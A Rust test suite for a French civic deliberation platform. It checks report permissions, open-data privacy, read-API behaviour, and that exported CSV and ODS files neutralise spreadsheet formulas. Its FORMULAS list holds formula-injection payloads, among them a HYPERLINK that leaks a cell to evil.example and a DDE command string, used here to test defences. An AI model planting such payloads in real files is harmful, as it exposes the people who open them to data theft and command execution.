//! The recommendations report and the open data, on SQLite and PostgreSQL: who may edit and
//! download what, what the report says after a real vote, and that no dataset holds anything
//! hidden, pending or personal.

mod support;

use axum::http::StatusCode;
use domain::Role;
use server::export::{self, ReportFormat};
use support::{cast, exec, expect_statuses, ok_as as ok, role, scalar, TestApp, PW};

backend_tests!(
    every_role_gets_exactly_its_report_permissions,
    the_report_says_what_was_voted_pinned_and_noted,
    open_data_holds_nothing_hidden_pending_or_personal,
    open_data_stays_inert_in_a_spreadsheet,
    csv_files_keep_their_accents_in_a_french_spreadsheet,
    the_published_report_is_everyones_to_download,
    the_read_api_pages_tags_and_shows_what_the_pages_show,
    the_read_api_refuses_bad_input_and_counts_requests,
);

/// Three published proposals in "education", by a citizen whose login differs from their
/// display name; their ids.
async fn proposals(t: &TestApp) -> Vec<i64> {
    let author = t.register("login-secret", PW).await;
    exec(
        t,
        "UPDATE users SET display_name = 'Camille Autrice' WHERE username = 'login-secret'",
    )
    .await;
    // Named in the report and the open data: they agreed to it.
    ok(
        t,
        "set_name_public",
        &[("name_public", "on")],
        Some(author.as_str()),
    )
    .await;
    let mut ids = Vec::new();
    for title in [
        "Former les enseignants",
        "=HYPERLINK(\"http://x\")",
        "Interdire l’IA",
    ] {
        let id = ok(
            t,
            "create_proposal",
            &[
                ("topic", "education"),
                ("title", title),
                ("summary", "Un résumé."),
                ("body", "Un texte **fort**."),
                ("intent", "publish"),
            ],
            Some(&author),
        )
        .await
        .as_i64()
        .unwrap();
        ids.push(id);
    }
    exec(
        t,
        "UPDATE proposals SET status = 'published', visibility = 'published'",
    )
    .await;
    ids
}

/// An approval round on `ids` adopting the first place, open for two hours.
async fn new_round(t: &TestApp, orga: &str, ids: &[i64]) -> i64 {
    let now = storage::now_ms();
    let mut f: Vec<(String, String)> = vec![
        ("form[title]".into(), "Priorités".into()),
        ("form[method]".into(), "approval".into()),
        ("form[electorate]".into(), "members".into()),
        (
            "form[grades]".into(),
            domain::voting::round::FRENCH_SCALE.join("\n"),
        ),
        ("form[budget]".into(), "10".into()),
        ("form[threshold]".into(), "1/2".into()),
        ("form[strict]".into(), "true".into()),
        ("form[rule]".into(), "top".into()),
        ("form[rule_k]".into(), "1".into()),
        ("form[opens_at]".into(), domain::time::paris_input(now)),
        (
            "form[closes_at]".into(),
            domain::time::paris_input(now + 7_200_000),
        ),
    ];
    for id in ids {
        f.push((format!("form[candidates][{id}]"), "on".into()));
    }
    let fields: Vec<(&str, &str)> = f.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
    ok(t, "create_round", &fields, Some(orga)).await;
    scalar(t, "SELECT MAX(id) FROM rounds").await
}

/// An approval round on `ids` adopting the first place, voted by two members, then closed.
async fn voted_round(t: &TestApp, orga: &str, ids: &[i64]) -> i64 {
    let round = new_round(t, orga, ids).await;
    for (name, approve) in [
        ("membre-a", vec![ids[0], ids[1]]),
        ("membre-b", vec![ids[0]]),
    ] {
        let m = role(t, name, Role::Member).await;
        let mut b = vec![("round".to_owned(), round.to_string())];
        for id in approve {
            b.push((format!("ballot[{id}]"), "on".into()));
        }
        let fields: Vec<(&str, &str)> = b.iter().map(|(k, v)| (k.as_str(), v.as_str())).collect();
        ok(t, "cast_ballot", &fields, Some(&m)).await;
    }
    exec(
        t,
        &format!(
            "UPDATE rounds SET closes_at = {} WHERE id = {round}",
            storage::now_ms() - 1
        ),
    )
    .await;
    round
}

async fn every_role_gets_exactly_its_report_permissions(t: TestApp) {
    let ids = proposals(&t).await;
    let people = cast(&t).await;
    let orga = people[1].1.clone().unwrap();
    voted_round(&t, &orga, &ids).await;
    let comment = ok(
        &t,
        "post_comment",
        &[
            ("topic", "education"),
            ("proposal", &ids[0].to_string()),
            ("body", "Oui, vraiment."),
            ("stance", "pour"),
        ],
        Some(&orga),
    )
    .await
    .as_i64()
    .unwrap();
    for (who, cookie) in &people {
        let denied = match *who {
            // The suspension ended the suspended account's session.
            "anonymous" | "suspended" => StatusCode::UNAUTHORIZED,
            "organiser" => StatusCode::OK,
            _ => StatusCode::FORBIDDEN,
        };
        expect_statuses(
            &t,
            who,
            cookie.as_deref(),
            vec![
                ("report_html", vec![], StatusCode::OK),
                ("report_admin", vec![], denied),
                (
                    "save_report",
                    vec![("introduction", "Intro".into())],
                    denied,
                ),
                (
                    "pin_argument",
                    vec![("comment", comment.to_string()), ("side", "for".into())],
                    denied,
                ),
                (
                    "add_dissent",
                    vec![("proposal", ids[1].to_string()), ("body", "Nuance".into())],
                    denied,
                ),
                ("publish_report", vec![("on", "false".into())], denied),
            ],
        )
        .await;
        let dissent = scalar(&t, "SELECT COALESCE(MAX(id), 0) FROM report_dissents").await;
        expect_statuses(
            &t,
            who,
            cookie.as_deref(),
            vec![("delete_dissent", vec![("id", dissent.to_string())], denied)],
        )
        .await;
        for format in ["md", "html", "odt"] {
            let r = t
                .get(
                    &format!("/admin/report/download?format={format}"),
                    cookie.as_deref(),
                )
                .await;
            assert_eq!(
                r.status, denied,
                "[{}] {who} downloading {format}: {}",
                t.backend, r.body
            );
            if denied == StatusCode::OK {
                let cd = r
                    .headers
                    .get("content-disposition")
                    .unwrap()
                    .to_str()
                    .unwrap();
                assert!(
                    cd.starts_with("attachment; filename=\"rapport-convention-"),
                    "{cd}"
                );
                assert!(cd.ends_with(&format!(".{format}\"")), "{cd}");
            }
        }
        // Open data is public.
        let r = t.get("/open-data/proposals.csv", cookie.as_deref()).await;
        assert_eq!(r.status, StatusCode::OK, "[{}] {who}", t.backend);
        let cd = r
            .headers
            .get("content-disposition")
            .unwrap()
            .to_str()
            .unwrap();
        assert!(
            cd.starts_with("attachment; filename=\"convention-proposals-"),
            "{cd}"
        );
    }
    // Bad input is a clear 4xx, never a 500, and writes nothing.
    let before = scalar(&t, "SELECT COUNT(*) FROM report_dissents").await;
    for (name, fields) in [
        (
            "add_dissent",
            vec![("proposal", ids[1].to_string()), ("body", "   ".into())],
        ),
        (
            "add_dissent",
            vec![("proposal", ids[1].to_string()), ("body", "x".repeat(5001))],
        ),
        (
            "add_dissent",
            vec![("proposal", "999999".into()), ("body", "Nuance".into())],
        ),
        (
            "add_dissent",
            vec![("proposal", ids[1].to_string()), ("body", "a\u{0}b".into())],
        ),
        (
            "pin_argument",
            vec![
                ("comment", comment.to_string()),
                ("side", "peut-être".into()),
            ],
        ),
        (
            "pin_argument",
            vec![("comment", "999999".into()), ("side", "for".into())],
        ),
        ("save_report", vec![("introduction", "x".repeat(20_001))]),
    ] {
        let f: Vec<(&str, &str)> = fields.iter().map(|(k, v)| (*k, v.as_str())).collect();
        let r = t.call(name, &f, Some(&orga)).await;
        assert!(
            r.status.is_client_error(),
            "[{}] {name} {:?}: {} {}",
            t.backend,
            &fields[..1],
            r.status,
            r.body
        );
    }
    assert_eq!(
        scalar(&t, "SELECT COUNT(*) FROM report_dissents").await,
        before
    );
    for path in [
        "/admin/report/download?format=docx",
        "/open-data/users.csv",
        "/open-data/proposals.xlsx",
    ] {
        let r = t.get(path, Some(&orga)).await;
        assert!(
            r.status.is_client_error(),
            "[{}] {path}: {}",
            t.backend,
            r.status
        );
    }
}

/// The citizen "citoyenne", who agreed to be named in the report and the open data; their
/// session.
async fn named_citizen(t: &TestApp) -> String {
    let citizen = role(t, "citoyenne", Role::Citizen).await;
    ok(
        t,
        "set_name_public",
        &[("name_public", "on")],
        Some(citizen.as_str()),
    )
    .await;
    citizen
}

async fn the_report_says_what_was_voted_pinned_and_noted(t: TestApp) {
    let ids = proposals(&t).await;
    let orga = role(&t, "orga", Role::Organiser).await;
    let round = voted_round(&t, &orga, &ids).await;
    let citizen = named_citizen(&t).await;
    let post = |body: &'static str, stance: &'static str| {
        let t = &t;
        let citizen = citizen.clone();
        let id = ids[0].to_string();
        async move {
            ok(
                t,
                "post_comment",
                &[
                    ("topic", "education"),
                    ("proposal", &id),
                    ("body", body),
                    ("stance", stance),
                ],
                Some(&citizen),
            )
            .await
            .as_i64()
            .unwrap()
        }
    };
    let pro = post("Indispensable pour l’école.", "pour").await;
    let con = post("Trop coûteux <script>.", "contre").await;
    let hidden = post("Argument masqué.", "pour").await;
    exec(
        &t,
        &format!("UPDATE comments SET visibility = 'hidden' WHERE id = {hidden}"),
    )
    .await;
    ok(
        &t,
        "pin_argument",
        &[("comment", &pro.to_string()), ("side", "for")],
        Some(&orga),
    )
    .await;
    ok(
        &t,
        "pin_argument",
        &[("comment", &con.to_string()), ("side", "against")],
        Some(&orga),
    )
    .await;
    let r = t
        .call(
            "pin_argument",
            &[("comment", &hidden.to_string()), ("side", "for")],
            Some(&orga),
        )
        .await;
    assert_eq!(
        r.status,
        StatusCode::NOT_FOUND,
        "[{}] a hidden comment is no argument",
        t.backend
    );
    ok(
        &t,
        "add_dissent",
        &[
            ("proposal", &ids[2].to_string()),
            ("body", "Une minorité voulait *interdire*."),
        ],
        Some(&orga),
    )
    .await;
    let education = scalar(&t, "SELECT id FROM topics WHERE slug = 'education'").await;
    ok(
        &t,
        "save_report",
        &[
            ("introduction", "Nous avons délibéré six mois."),
            (&format!("choice[topic-{education}]"), "on"),
            (&format!("choice[round-{round}]"), "on"),
        ],
        Some(&orga),
    )
    .await;

    // The proposals are dated three days after the round opened (imported later): the
    // report's period starts at the round's opening, not at the first proposal.
    exec(
        &t,
        "UPDATE proposals SET created_at = created_at + 259200000",
    )
    .await;
    let opened = scalar(
        &t,
        &format!("SELECT opens_at FROM rounds WHERE id = {round}"),
    )
    .await;
    let md = markdown(&t).await;
    assert!(
        md.contains(&format!("Du {} au ", domain::report::long_date(opened))),
        "[{}] the period starts when the round opened:\n{md}",
        t.backend
    );
    let again = markdown(&t).await;
    assert_eq!(
        md, again,
        "[{}] the same database gives the same Markdown",
        t.backend
    );
    for expected in [
        "Nous avons délibéré six mois.",
        &format!("### Recommandation 1.1 — n° {} — Former les enseignants", ids[0]),
        "**Auteurs :** Camille Autrice",
        &format!("Scrutin n° {round} « Priorités », vote par approbation : 1re sur 3 chez les membres tirés au sort (2 votants, score 2)."),
        "> Indispensable pour l’école.",
        "> Trop coûteux \\<script\\>.",
        "> — citoyenne",
        "### Positions minoritaires",
        "Une minorité voulait *interdire*.",
        "## Annexe : résultats des scrutins",
    ] {
        assert!(md.contains(expected), "[{}] missing {expected:?} in\n{md}", t.backend);
    }
    assert!(
        !md.contains("Argument masqué"),
        "[{}] hidden comment in the report",
        t.backend
    );
    assert!(
        !md.contains("login-secret"),
        "[{}] a login in the report",
        t.backend
    );
    // The second proposal came second: rejected narrowly, a minority position.
    assert!(
        md.contains(&format!("n° {} — =HYPERLINK", ids[1])),
        "[{}]\n{md}",
        t.backend
    );

    // Excluding the topic empties the report of it.
    let topic = scalar(&t, "SELECT id FROM topics WHERE slug = 'culture'").await;
    ok(
        &t,
        "save_report",
        &[
            ("introduction", ""),
            (&format!("choice[topic-{topic}]"), "on"),
            (&format!("choice[round-{round}]"), "on"),
        ],
        Some(&orga),
    )
    .await;
    let md = markdown(&t).await;
    assert!(
        !md.contains("Former les enseignants\n") && !md.contains("Recommandation 1.1 — n°"),
        "[{}]\n{md}",
        t.backend
    );

    // PDF and ODT are real files.
    let pdf = export::report(&t.state, ReportFormat::Pdf, domain::report::Lang::Fr)
        .await
        .unwrap()
        .bytes;
    assert!(pdf.starts_with(b"%PDF-"), "[{}] not a PDF", t.backend);
    // Two typesettings of the same data at two moments differ only where they say when.
    let report = service::report::build_report(&t.state, domain::report::Lang::Fr)
        .await
        .unwrap();
    let (first, second) = (1_784_023_200_000, 1_794_023_207_000);
    let pdf_at = |ms: i64| {
        let report = report.clone();
        tokio::task::spawn_blocking(move || server::pdf::report_pdf(&report, ms).unwrap())
    };
    let (a, again, b) = (
        pdf_at(first).await.unwrap(),
        pdf_at(first).await.unwrap(),
        pdf_at(second).await.unwrap(),
    );
    assert_eq!(a, again, "[{}] same data, same moment, same PDF", t.backend);
    assert_ne!(a, b, "[{}] the creation date is in the PDF", t.backend);
    assert_eq!(
        undated_pdf(&a, first),
        undated_pdf(&b, second),
        "[{}] the PDFs differ in more than their dates",
        t.backend
    );
    let odt = export::report(&t.state, ReportFormat::Odt, domain::report::Lang::Fr)
        .await
        .unwrap()
        .bytes;
    assert_eq!(&odt[30..38], b"mimetype");
}

async fn open_data_holds_nothing_hidden_pending_or_personal(t: TestApp) {
    let ids = proposals(&t).await;
    let orga = role(&t, "orga", Role::Organiser).await;
    voted_round(&t, &orga, &ids).await;
    let citizen = named_citizen(&t).await;
    for (body, visibility) in [
        ("Visible", "published"),
        ("Masqué", "hidden"),
        ("En attente", "pending"),
    ] {
        let id = ok(
            &t,
            "post_comment",
            &[
                ("topic", "education"),
                ("proposal", &ids[0].to_string()),
                ("body", &format!("Commentaire {body}")),
            ],
            Some(&citizen),
        )
        .await
        .as_i64()
        .unwrap();
        exec(
            &t,
            &format!("UPDATE comments SET visibility = '{visibility}' WHERE id = {id}"),
        )
        .await;
    }
    exec(&t, &format!("UPDATE proposals SET visibility = 'hidden', title = 'Proposition masquée' WHERE id = {}", ids[2])).await;
    for dataset in domain::opendata::Dataset::ALL {
        for format in ["json", "csv"] {
            let r = t
                .get(&format!("/open-data/{}.{format}", dataset.as_str()), None)
                .await;
            assert_eq!(
                r.status,
                StatusCode::OK,
                "[{}] {}",
                t.backend,
                dataset.as_str()
            );
            let body = &r.body;
            for secret in [
                "Commentaire Masqué",
                "Commentaire En attente",
                "Proposition masquée",
                "login-secret",
                "$argon2",
                "127.0.0.1",
                "slot",
            ] {
                assert!(
                    !body.contains(secret),
                    "[{}] {secret:?} in {}.{format}",
                    t.backend,
                    dataset.as_str()
                );
            }
            if format == "json" {
                assert!(
                    body.contains("Licence Ouverte / Open Licence 2.0"),
                    "[{}]",
                    t.backend
                );
            }
        }
    }
    let comments = t.get("/open-data/comments.json", None).await.body;
    assert!(
        comments.contains("Commentaire Visible"),
        "[{}] {comments}",
        t.backend
    );
    let csv = t.get("/open-data/proposals.csv", None).await.body;
    assert!(
        csv.contains("\"'=HYPERLINK(\"\"http://x\"\")\""),
        "[{}] formula not neutralised: {csv}",
        t.backend
    );
    assert!(csv.contains("Camille Autrice"), "[{}]", t.backend);
    assert!(
        csv.contains("adoptée"),
        "[{}] vote results missing: {csv}",
        t.backend
    );
}

/// Comments a spreadsheet would run, one per way a cell becomes a formula (OWASP's list, a
/// hyperlink that leaks, a DDE call), each marked so its cell can be found after the trip.
const FORMULAS: [&str; 9] = [
    "=40+2 ; m1",
    "+40+2 ; m2",
    "-40+2 ; m3",
    "@SUM(40;2) ; m4",
    "\t=40+2 ; m5",
    "\r=40+2 ; m6",
    "=HYPERLINK(\"http://evil.example/?\"&A1;\"m7\")",
    "=cmd|' /C calc'!A0 ; m8",
    "=DDE(\"soffice\";\"m9\";\"x\")",
];

/// A formula comment's text as LibreOffice's CSV shows it once kept as text: leading tab or CR
/// aside (the server may strip them, the prefix then falls on `=`), quotes doubled.
fn as_written_back(body: &str) -> String {
    body.trim_start_matches(['\t', '\r']).replace('"', "\"\"")
}

/// An empty folder of its own for the files a test opens in LibreOffice.
fn spreadsheet_dir(t: &TestApp, label: &str) -> std::path::PathBuf {
    let dir = std::env::temp_dir().join(format!(
        "convention-{label}-{}-{}",
        t.backend,
        std::process::id()
    ));
    let _ = std::fs::remove_dir_all(&dir);
    std::fs::create_dir_all(&dir).unwrap();
    dir
}

/// Opens `file` in LibreOffice Calc with formulas evaluated and saves it back as CSV: what a
/// city's clerk would see after opening the download.
fn through_libreoffice(file: &std::path::Path, infilter: &str) -> String {
    let dir = file.parent().unwrap();
    let out = dir.join("out");
    // Its own profile: LibreOffice refuses a second instance on a profile in use.
    let profile = format!(
        "-env:UserInstallation=file://{}",
        dir.join("profile").display()
    );
    let status = std::process::Command::new("soffice")
        .args([&profile, "--headless", "--norestore"])
        .arg(format!("--infilter={infilter}"))
        .args([
            "--convert-to",
            "csv:Text - txt - csv (StarCalc):44,34,76,1",
            "--outdir",
        ])
        .arg(&out)
        .arg(file)
        .output()
        .expect(
            "LibreOffice's soffice is needed for this test: ./scripts/setup.sh --test installs it",
        );
    assert!(
        status.status.success(),
        "soffice: {}",
        String::from_utf8_lossy(&status.stderr)
    );
    let name = file.with_extension("csv");
    std::fs::read_to_string(out.join(name.file_name().unwrap())).unwrap()
}

async fn open_data_stays_inert_in_a_spreadsheet(t: TestApp) {
    let citizen = role(&t, "tableur", Role::Citizen).await;
    for body in FORMULAS {
        ok(
            &t,
            "post_comment",
            &[("topic", "culture"), ("body", body)],
            Some(&citizen),
        )
        .await;
    }
    let dir = spreadsheet_dir(&t, "csv");
    let csv = t.get("/open-data/comments.csv", None).await.body;
    // A control line the server did not write: these import options must run a formula, or
    // the test could not fail.
    let file = dir.join("comments.csv");
    std::fs::write(&file, format!("{csv}\"=6*7\",\"=6*8\"\r\n")).unwrap();
    // Formulas evaluated (token 13), quoted fields not forced to text (token 7).
    let back = through_libreoffice(
        &file,
        "CSV:44,34,76,1,,1036,false,true,false,false,false,-1,true",
    );
    assert!(
        back.contains("42,48") && !back.contains("6*7"),
        "[{}] LibreOffice did not evaluate the control formulas, so this proves nothing: {back}",
        t.backend
    );
    for (i, body) in FORMULAS.iter().enumerate() {
        let mark = format!("m{}", i + 1);
        let cell = back
            .split("\r\n")
            .flat_map(|l| l.split('\n'))
            .find(|l| l.contains(&mark))
            .unwrap_or_else(|| panic!("[{}] {mark} lost: {back}", t.backend));
        assert!(
            cell.contains(&as_written_back(body)),
            "[{}] {body:?} did not come back as text: {cell}",
            t.backend
        );
    }
    // The ODS has string cells: nothing in them runs either.
    let ods = export::dataset(
        &t.state,
        domain::opendata::Dataset::Comments,
        domain::opendata::Format::Ods,
    )
    .await
    .unwrap()
    .bytes;
    let file = dir.join("comments.ods");
    std::fs::write(&file, ods).unwrap();
    let back = through_libreoffice(&file, "calc8");
    for (i, body) in FORMULAS.iter().enumerate() {
        assert!(
            back.contains(&as_written_back(body)),
            "[{}] m{}: {body:?} did not come back as text from the ODS: {back}",
            t.backend,
            i + 1
        );
    }
    let _ = std::fs::remove_dir_all(&dir);
}

/// A GET of the read API from one address, with optional `If-None-Match`.
async fn api(t: &TestApp, path: &str, etag: Option<&str>) -> support::Reply {
    api_from(t, [192, 0, 2, 7], path, etag).await
}

/// A GET of the read API from `ip` (so that it is counted), with optional `If-None-Match`.
async fn api_from(t: &TestApp, ip: [u8; 4], path: &str, etag: Option<&str>) -> support::Reply {
    use axum::body::Body;
    use axum::http::{header, Request};
    let mut req = Request::get(path).header(header::ACCEPT, "application/json");
    if let Some(tag) = etag {
        req = req.header(header::IF_NONE_MATCH, tag);
    }
    let mut req = req.body(Body::empty()).expect("request");
    req.extensions_mut()
        .insert(axum::extract::ConnectInfo(std::net::SocketAddr::from((
            ip, 40000,
        ))));
    t.send(req).await
}

async fn the_read_api_pages_tags_and_shows_what_the_pages_show(t: TestApp) {
    let ids = proposals(&t).await;
    let orga = role(&t, "orga", Role::Organiser).await;
    let open = new_round(&t, &orga, &ids).await;
    let round = voted_round(&t, &orga, &ids).await;
    let citizen = named_citizen(&t).await;
    let mut comments = Vec::new();
    for n in 0..5 {
        let id = ok(
            &t,
            "post_comment",
            &[
                ("topic", "education"),
                ("proposal", &ids[0].to_string()),
                ("body", &format!("Commentaire numéro {n}")),
            ],
            Some(&citizen),
        )
        .await
        .as_i64()
        .unwrap();
        comments.push(id);
    }
    exec(
        &t,
        &format!(
            "UPDATE comments SET visibility = 'hidden' WHERE id = {}",
            comments[1]
        ),
    )
    .await;
    exec(
        &t,
        &format!(
            "UPDATE comments SET visibility = 'pending' WHERE id = {}",
            comments[2]
        ),
    )
    .await;
    exec(
        &t,
        &format!(
            "UPDATE proposals SET visibility = 'hidden' WHERE id = {}",
            ids[2]
        ),
    )
    .await;

    // Paging with limit 2 by following `next` visits every visible comment once, in id order.
    let mut seen = Vec::new();
    let mut url = format!("/api/v1/comments?proposal={}&limit=2", ids[0]);
    loop {
        let r = api(&t, &url, None).await;
        assert_eq!(
            r.status,
            StatusCode::OK,
            "[{}] {url}: {}",
            t.backend,
            r.body
        );
        assert_eq!(
            r.headers["content-type"], "application/json",
            "[{}]",
            t.backend
        );
        let page = support::json(&r.body);
        for c in page["items"].as_array().unwrap() {
            assert_eq!(c["author"], "citoyenne", "[{}]", t.backend);
            seen.push(c["id"].as_i64().unwrap());
        }
        match page["next"].as_str() {
            Some(next) => url = next.to_owned(),
            None => break,
        }
    }
    let visible: Vec<i64> = [0, 3, 4].iter().map(|i| comments[*i]).collect();
    assert_eq!(seen, visible, "[{}]", t.backend);
    for hidden in [comments[1], comments[2]] {
        let r = api(&t, &format!("/api/v1/comments/{hidden}"), None).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "[{}]", t.backend);
        assert_eq!(
            support::json(&r.body)["error"],
            "not_found",
            "[{}]",
            t.backend
        );
    }
    let r = api(&t, "/api/v1/proposals?topic=education", None).await;
    let page = support::json(&r.body);
    let listed: Vec<i64> = page["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["id"].as_i64().unwrap())
        .collect();
    assert_eq!(listed, ids[..2], "[{}] {}", t.backend, r.body);
    assert!(
        !r.body.contains("login-secret"),
        "[{}] a login leaked",
        t.backend
    );
    assert_eq!(
        page["items"][0]["author"], "Camille Autrice",
        "[{}]",
        t.backend
    );
    let r = api(&t, &format!("/api/v1/proposals/{}", ids[2]), None).await;
    assert_eq!(r.status, StatusCode::NOT_FOUND, "[{}]", t.backend);
    let r = api(&t, "/api/v1/proposals?topic=sante", None).await;
    assert_eq!(
        support::json(&r.body)["items"],
        serde_json::json!([]),
        "[{}]",
        t.backend
    );

    // ETag: the same answer gives 304 without a body; a change gives a new tag.
    let path = format!("/api/v1/proposals/{}", ids[0]);
    let first = api(&t, &path, None).await;
    let tag = first.headers["etag"].to_str().unwrap().to_owned();
    let again = api(&t, &path, Some(&tag)).await;
    assert_eq!(again.status, StatusCode::NOT_MODIFIED, "[{}]", t.backend);
    assert!(again.body.is_empty(), "[{}]", t.backend);
    let weak = api(&t, &path, Some(&format!("\"other\", W/{tag}"))).await;
    assert_eq!(weak.status, StatusCode::NOT_MODIFIED, "[{}]", t.backend);
    exec(
        &t,
        &format!(
            "UPDATE proposals SET support_count = 7 WHERE id = {}",
            ids[0]
        ),
    )
    .await;
    let changed = api(&t, &path, Some(&tag)).await;
    assert_eq!(changed.status, StatusCode::OK, "[{}]", t.backend);
    assert_ne!(
        changed.headers["etag"].to_str().unwrap(),
        tag,
        "[{}]",
        t.backend
    );

    // Rounds and results: the closed round's count, with the hidden candidate's title masked.
    let r = api(&t, &format!("/api/v1/rounds/{round}"), None).await;
    let body = support::json(&r.body);
    assert_eq!(body["state"], "closed", "[{}]", t.backend);
    assert_eq!(
        body["candidates"],
        serde_json::json!(ids),
        "[{}]",
        t.backend
    );
    let r = api(&t, &format!("/api/v1/rounds/{round}/results"), None).await;
    assert_eq!(r.status, StatusCode::OK, "[{}] {}", t.backend, r.body);
    let results = support::json(&r.body);
    let side = &results["sides"][0];
    assert_eq!(side["side"], "members", "[{}]", t.backend);
    assert_eq!(side["voters"], 2, "[{}]", t.backend);
    assert_eq!(side["lines"][0]["proposal_id"], ids[0], "[{}]", t.backend);
    assert_eq!(side["lines"][0]["rank"], 1, "[{}]", t.backend);
    assert_eq!(side["lines"][0]["adopted"], true, "[{}]", t.backend);
    assert!(
        !r.body.contains("Interdire"),
        "[{}] hidden title: {}",
        t.backend,
        r.body
    );
    let r = api(&t, &format!("/api/v1/rounds/{open}/results"), None).await;
    assert_eq!(
        r.status,
        StatusCode::NOT_FOUND,
        "[{}] results before the close",
        t.backend
    );

    // The OpenAPI document lists every route it serves.
    let r = api(&t, "/api/v1/openapi.json", None).await;
    let doc = support::json(&r.body);
    assert!(
        doc["openapi"].as_str().unwrap().starts_with("3."),
        "[{}]",
        t.backend
    );
    for path in [
        "/api/v1/topics",
        "/api/v1/topics/{slug}",
        "/api/v1/proposals",
        "/api/v1/proposals/{id}",
        "/api/v1/comments",
        "/api/v1/comments/{id}",
        "/api/v1/rounds",
        "/api/v1/rounds/{id}",
        "/api/v1/rounds/{id}/results",
    ] {
        assert!(
            doc["paths"][path]["get"].is_object(),
            "[{}] {path} undocumented",
            t.backend
        );
    }
}

async fn the_read_api_refuses_bad_input_and_counts_requests(t: TestApp) {
    for bad in [
        "/api/v1/proposals?limit=0",
        "/api/v1/proposals?limit=201",
        "/api/v1/proposals?limit=abc",
        "/api/v1/proposals?after=-1",
        "/api/v1/proposals?topic=%00",
        "/api/v1/proposals?topic=Pas%20un%20slug",
        "/api/v1/comments?proposal=0",
        "/api/v1/comments?proposal=x",
    ] {
        let r = api(&t, bad, None).await;
        assert_eq!(
            r.status,
            StatusCode::BAD_REQUEST,
            "[{}] {bad}: {}",
            t.backend,
            r.body
        );
        assert_eq!(
            support::json(&r.body)["error"],
            "bad_request",
            "[{}] {bad}",
            t.backend
        );
    }
    // An address whose id or slug cannot be one names nothing: 404, as for a missing row (a
    // client following a link built from a null field asks for /proposals/None).
    for missing in [
        "/api/v1/proposals/abc",
        "/api/v1/proposals/None",
        "/api/v1/proposals/0",
        "/api/v1/proposals/99999999999999999999",
        "/api/v1/comments/-3",
        "/api/v1/rounds/x/results",
        "/api/v1/topics/%00",
        "/api/v1/topics/Pas%20un%20slug",
        "/api/v1/proposals/424242",
        "/api/v1/topics/nulle-part",
        "/api/v1/rounds/424242/results",
    ] {
        let r = api(&t, missing, None).await;
        assert_eq!(r.status, StatusCode::NOT_FOUND, "[{}] {missing}", t.backend);
    }
    // A site with a budget of 3 requests a minute per address refuses the 4th with 429.
    let strict = t
        .configured(
            service::AuthConfig {
                api_per_minute: 3,
                ..service::AuthConfig::default()
            },
            None,
        )
        .await;
    // The budget is this minute's: a request just over a minute boundary may start a fresh one.
    let mut refused = None;
    for n in 1..=8 {
        let r = api_from(&strict, [192, 0, 2, 99], "/api/v1/topics", None).await;
        if r.status == StatusCode::TOO_MANY_REQUESTS {
            refused = Some((n, r));
            break;
        }
        assert_eq!(r.status, StatusCode::OK, "[{}]", t.backend);
    }
    let (n, r) = refused.unwrap_or_else(|| panic!("[{}] never limited", t.backend));
    assert!(n >= 4, "[{}] limited after {n}", t.backend);
    assert!(r.headers.contains_key("retry-after"), "[{}]", t.backend);
    assert_eq!(
        support::json(&r.body)["error"],
        "rate_limited",
        "[{}]",
        t.backend
    );
}

/// A PDF with its creation date, in the spellings PDF metadata uses, replaced by a mark
/// (bytes, not text: the compressed streams around them must compare exactly). The instance
/// id goes too: the PDF's `/ID` pairs the document's permanent id with one for this version,
/// which Typst derives from the document including its date.
fn undated_pdf(pdf: &[u8], ms: i64) -> Vec<u8> {
    let iso = domain::time::iso_utc(ms); // 2026-07-14T10:00:00Z
    let (date, time) = (&iso[..10], &iso[11..19]);
    let compact = format!("{}{}", date.replace('-', ""), time.replace(':', ""));
    let trailer = pdf
        .windows(5)
        .rposition(|w| w == b"/ID[(")
        .expect("a trailer /ID");
    let ids = &pdf[trailer + 5..];
    let second = ids.windows(2).position(|w| w == b")(").expect("two ids") + 2;
    let instance = &ids[second..second + ids[second..].iter().position(|&c| c == b')').unwrap()];
    let mut bytes = replace_bytes(pdf, instance, b"INSTANCE");
    for spelling in [
        format!("D:{compact}Z"),
        format!("D:{compact}+00'00'"),
        format!("D:{compact}+00'00"),
        format!("D:{compact}"),
        format!("{date}T{time}Z"),
        format!("{date}T{time}+00:00"),
        format!("{date}T{time}"),
    ] {
        bytes = replace_bytes(&bytes, spelling.as_bytes(), b"DATE");
    }
    assert!(
        replace_bytes(&bytes, date.as_bytes(), b"") == bytes,
        "a spelling of the date is left: {date}"
    );
    bytes
}

fn replace_bytes(haystack: &[u8], needle: &[u8], with: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(haystack.len());
    let mut i = 0;
    while i < haystack.len() {
        if haystack[i..].starts_with(needle) {
            out.extend_from_slice(with);
            i += needle.len();
        } else {
            out.push(haystack[i]);
            i += 1;
        }
    }
    out
}

/// The report as Markdown, as the site would serve it now.
async fn markdown(t: &TestApp) -> String {
    let file = export::report(&t.state, ReportFormat::Md, domain::report::Lang::Fr)
        .await
        .unwrap();
    String::from_utf8(file.bytes).unwrap()
}

async fn csv_files_keep_their_accents_in_a_french_spreadsheet(t: TestApp) {
    let citizen = role(&t, "accents", Role::Citizen).await;
    let organiser = role(&t, "organisatrice", Role::Organiser).await;
    let text = "Société écologique : œuvres créées, façades à Pérols";
    ok(
        &t,
        "post_comment",
        &[("topic", "culture"), ("body", text)],
        Some(&citizen),
    )
    .await;
    let dir = spreadsheet_dir(&t, "bom");
    for (path, cookie) in [
        ("/open-data/comments.csv", None),
        ("/open-data/proposals.csv", None),
        ("/admin/audit.csv", Some(organiser.as_str())),
    ] {
        let r = t.get(path, cookie).await;
        assert_eq!(r.status, StatusCode::OK, "[{}] {path}", t.backend);
        assert!(
            r.body.starts_with('\u{feff}'),
            "[{}] {path} has no byte-order mark",
            t.backend
        );
    }
    // Opened in LibreOffice with French settings (language 1036), as UTF-8: what its import
    // dialog picks when it sees the mark (its headless filter, used here, does not look for
    // it, and Excel, which needs the mark most, cannot run on this machine). The mark must
    // not leak into the first cell, and the accents come through.
    let csv = t.get("/open-data/comments.csv", None).await.body;
    std::fs::write(dir.join("comments.csv"), &csv).unwrap();
    let back = through_libreoffice(
        &dir.join("comments.csv"),
        "CSV:44,34,76,1,,1036,false,false,false,false,false,-1,true",
    );
    assert!(
        back.starts_with("\"id\","),
        "[{}] the mark leaked into the first cell: {back:?}",
        t.backend
    );
    assert!(back.contains(text), "[{}] accents lost: {back}", t.backend);
    let _ = std::fs::remove_dir_all(&dir);
}

